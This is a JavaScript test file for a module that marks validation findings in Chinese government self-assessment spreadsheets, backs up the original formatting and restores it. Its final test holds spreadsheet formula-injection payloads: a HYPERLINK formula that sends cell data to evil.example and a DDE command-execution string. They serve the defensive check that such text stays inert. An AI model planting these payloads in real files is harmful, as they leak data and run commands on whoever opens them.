"use strict";
const test = require("node:test");
const assert = require("node:assert/strict");
const marks = require("../js/marks.js");
const colors = require("../js/colors.js");
const { FakeApplication, visibleState, XL_NONE } = require("../testing/fake_et.js");

function workbook() {
  const app = new FakeApplication();
  const wb = app.openSnapshot({
    book: "县级.xlsx",
    sheets: [
      { name: "自评表", values: [["项目名称", "送温暖"], ["总分", 100], ["分值", 80]] },
      { name: "It's", values: [["x", "y"]] },
    ],
  });
  const ws = wb.sheet("自评表");
  ws.Range("B2").Interior.Color = 0x00ffff; // a clerk's own yellow
  ws.Range("B2").AddComment("填报人：请核对");
  ws.Range("B3").Interior.Pattern = 17; // a patterned fill
  ws.Range("B3").Interior.Color = 0x123456;
  ws.Range("B3").Interior.Pattern = 17;
  ws.Range("B3").Interior.PatternColor = 0x654321;
  return { app, wb, ws };
}

const ACTIONS = [
  { op: "clear" },
  { op: "mark", sheet: "自评表", cell: "B2", color: "FFC7CE", note: "【错误 E1】总分不是各项之和\n修改建议：改为 80" },
  { op: "mark", sheet: "自评表", cell: "B3", color: "FFEB9C", note: "【警告 W1】分值合计不是 90" },
  { op: "mark", sheet: "自评表", cell: "A1", color: "DDEBF7", note: "【提示 I1】项目名称" },
  { op: "mark", sheet: "没有这张表", cell: "A1", color: "FFC7CE", note: "跳过" },
  {
    op: "result_sheet", name: "校验结果", counts: { error: 1, warning: 1, info: 2 },
    rows: [
      { severity: "error", code: "E1", sheet: "自评表", cell: "B2", message: "总分不是各项之和", hint: "改为 80" },
      { severity: "warning", code: "W1", sheet: "自评表", cell: "B3", message: "分值合计不是 90", hint: "核对" },
      { severity: "info", code: "I1", sheet: "It's", cell: "A1", message: "引号", hint: "—" },
      { severity: "info", code: "I2", sheet: null, cell: null, message: "整表", hint: "—" },
    ],
  },
];

test("marks colour cells in BGR, put the findings in comments, and back up first", () => {
  const { app, wb, ws } = workbook();
  const done = marks.applyActions(app, wb, ACTIONS);
  assert.deepEqual(done, { cleared: 0, marked: 3, written: 0, resultSheet: true });
  assert.equal(ws.at("B2").color, 0xcec7ff);
  assert.equal(ws.at("B2").pattern, colors.XL_SOLID);
  assert.equal(ws.at("B3").color, 0x9cebff);
  assert.equal(ws.at("B3").pattern, colors.XL_SOLID);
  assert.equal(ws.at("A1").color, 0xf7ebdd);
  assert.equal(ws.at("B2").comment.Text(), ACTIONS[1].note);
  const backup = wb.sheet("jixiao_marks");
  assert.equal(backup.Visible, 2); // xlSheetVeryHidden
  const rows = backup.UsedRange.Value2;
  assert.deepEqual(rows[0], ["sheet", "cell", "fill", "comment"]);
  assert.deepEqual(rows.slice(1).map((r) => r[1]), ["B2", "B3", "A1"]);
  assert.equal(JSON.parse(rows[1][3]).text, "填报人：请核对");
  assert.equal(rows[3][2], "<fill><patternFill /></fill>");
  assert.equal(app.DisplayAlerts, true);
});

test("the result sheet comes first, with counts, rows, level colours and links", () => {
  const { app, wb } = workbook();
  marks.applyActions(app, wb, ACTIONS);
  const ws = wb.sheets[0];
  assert.equal(ws.Name, "校验结果");
  assert.equal(wb.active, ws);
  assert.equal(ws.at("A1").value, "校验结果：错误 1 项，警告 1 项，提示 2 项");
  assert.deepEqual(ws.Range("A2:G2").Value2[0], ["序号", "级别", "规则", "工作表", "单元格", "说明", "修改建议"]);
  assert.deepEqual(ws.Range("A3:G3").Value2[0], [1, "错误", "E1", "自评表", "B2", "总分不是各项之和", "改为 80"]);
  assert.equal(ws.at("B3").color, 0xcec7ff);
  assert.equal(ws.at("B5").color, 0xf7ebdd);
  assert.deepEqual(ws.links.map((l) => [l.cell, l.subAddress]), [
    ["E3", "'自评表'!B2"], ["E4", "'自评表'!B3"], ["E5", "'It''s'!A1"],
  ]);
});

test("clear restores fills and comments exactly and removes both sheets", () => {
  const { app, wb } = workbook();
  const before = visibleState(wb);
  marks.applyActions(app, wb, ACTIONS);
  assert.notDeepEqual(visibleState(wb), before);
  const done = marks.applyActions(app, wb, [{ op: "clear" }]);
  assert.equal(done.cleared, 3);
  assert.deepEqual(visibleState(wb), before);
  assert.deepEqual(wb.sheets.map((s) => s.Name), ["自评表", "It's"]);
});

test("checking twice keeps the original state in the backup", () => {
  const { app, wb } = workbook();
  const before = visibleState(wb);
  marks.applyActions(app, wb, ACTIONS);
  marks.applyActions(app, wb, ACTIONS);
  assert.equal(wb.sheets.filter((s) => s.Name === "jixiao_marks").length, 1);
  marks.applyActions(app, wb, [{ op: "clear" }]);
  assert.deepEqual(visibleState(wb), before);
});

test("marks without a clear first append to the backup; clear restores the oldest state", () => {
  const { app, wb } = workbook();
  const before = visibleState(wb);
  marks.applyActions(app, wb, ACTIONS.slice(1, 2));
  marks.applyActions(app, wb, ACTIONS.slice(1, 2));
  marks.applyActions(app, wb, [{ op: "clear" }]);
  assert.deepEqual(visibleState(wb), before);
});

test("a backup written by the openpyxl applier is cleared too", () => {
  const { app, wb, ws } = workbook();
  const backup = wb.Worksheets.Add(null, wb.Worksheets.Item(2));
  backup.Name = "jixiao_marks";
  backup.Range("A1:D4").Value2 = [
    ["sheet", "cell", "fill", "comment"],
    ["自评表", "A1", '<fill><patternFill patternType="solid"><fgColor rgb="00FFFF00" /><bgColor rgb="00FFFF00" /></patternFill></fill>', null],
    ["自评表", "B2", "<fill><patternFill /></fill>", JSON.stringify({ text: "原批注", author: "x", width: 144, height: 79 })],
    ["自评表", "B3", '<fill><patternFill patternType="solid"><fgColor theme="4" tint="-0.25" /></patternFill></fill>', null],
  ];
  backup.Visible = 2;
  marks.applyActions(app, wb, [{ op: "clear" }]);
  assert.equal(ws.at("A1").color, colors.hexToBgr("FFFF00"));
  assert.equal(ws.at("B2").pattern, XL_NONE);
  assert.equal(ws.at("B2").comment.Text(), "原批注");
  assert.deepEqual([ws.at("B3").pattern, ws.at("B3").theme, ws.at("B3").tint], [1, 5, -0.25]);
  assert.equal(wb.sheet("jixiao_marks"), undefined);
});

test("write sets the value and its number format", () => {
  const { app, wb, ws } = workbook();
  const done = marks.applyActions(app, wb, [
    { op: "write", sheet: "自评表", cell: "B2", value: 87.5, number_format: "0.00" },
    { op: "write", sheet: "自评表", cell: "C2", value: 0.9, number_format: "0.00%" },
    { op: "write", sheet: "没有", cell: "A1", value: 1 },
  ]);
  assert.equal(done.written, 2);
  assert.equal(ws.at("B2").value, 87.5);
  assert.equal(ws.at("B2").numberFormat, "0.00");
  assert.equal(ws.at("C2").numberFormat, "0.00%");
});

test("the fake enters text as WPS does: = + - @ make formulas unless text format or an apostrophe", () => {
  const app = new FakeApplication();
  const wb = app.openSnapshot({ book: "b.xlsx", sheets: [{ name: "s", values: [["x"]] }] });
  const ws = wb.sheet("s");
  ws.Range("A1:E1").Value2 = [["=1+1", "+cmd", "-x", "@SUM(A1)", "-5"]];
  assert.deepEqual(["A1", "B1", "C1", "D1"].map((a) => ws.at(a).formula), ["=1+1", "=+cmd", "=-x", "=SUM(A1)"]);
  assert.equal(ws.at("E1").formula, null); // "-5" reads as a number
  ws.Range("A2").Value2 = "'=1+1";
  assert.equal(ws.Range("A2").Value2, "=1+1");
  assert.equal(ws.Range("A2").PrefixCharacter, "'");
  assert.equal(ws.Range("A2").HasFormula, false);
  ws.Range("C:C").NumberFormat = "@";
  ws.Range("C3").Value2 = "=1+1";
  assert.equal(ws.Range("C3").HasFormula, false);
  assert.equal(ws.Range("C3").Value2, "=1+1");
});

const HOSTILE = [
  "=HYPERLINK(\"http://evil.example/?\"&A1,\"点这里\")",
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1,1)",
];

test("county text reaches 校验结果 and jixiao_marks as text, never as a formula", () => {
  const app = new FakeApplication();
  const wb = app.openSnapshot({
    book: "县级.xlsx",
    sheets: [{ name: "=表", values: [["项目名称", HOSTILE[0]], ["分值", 80]] }],
  });
  const actions = [
    { op: "mark", sheet: "=表", cell: "B1", color: "FFC7CE", note: "【错误】" + HOSTILE[0] },
    { op: "write", sheet: "=表", cell: "B2", value: HOSTILE[1] },
    {
      op: "result_sheet", name: "校验结果", counts: { error: 4, warning: 0, info: 0 },
      rows: HOSTILE.map((text, i) => ({
        severity: "error", code: text, sheet: i ? text : "=表", cell: i ? null : "B1",
        message: text, hint: text,
      })),
    },
  ];
  marks.applyActions(app, wb, actions);
  const result = wb.sheet("校验结果");
  const backup = wb.sheet("jixiao_marks");
  for (const ws of [result, backup, wb.sheet("=表")]) {
    assert.equal(ws.UsedRange.HasFormula, false, ws.Name);
  }
  const rows = result.UsedRange.Value2;
  HOSTILE.forEach((text, i) => {
    const row = rows[i + 2];
    assert.equal(row[2], text); // 规则
    if (i) assert.equal(row[3], text); // 工作表
    assert.equal(row[5], text); // 说明
    assert.equal(row[6], text); // 修改建议
  });
  assert.equal(wb.sheet("=表").Range("B2").Value2, HOSTILE[1]);
  assert.equal(backup.UsedRange.Value2[1][0], "=表"); // the sheet's name, read back as text
  marks.clearMarks(app, wb); // and the marks come off again through that name
  assert.equal(wb.sheet("=表").at("B1").comment, null);
  assert.equal(wb.sheet("=表").at("B1").pattern, XL_NONE);
});
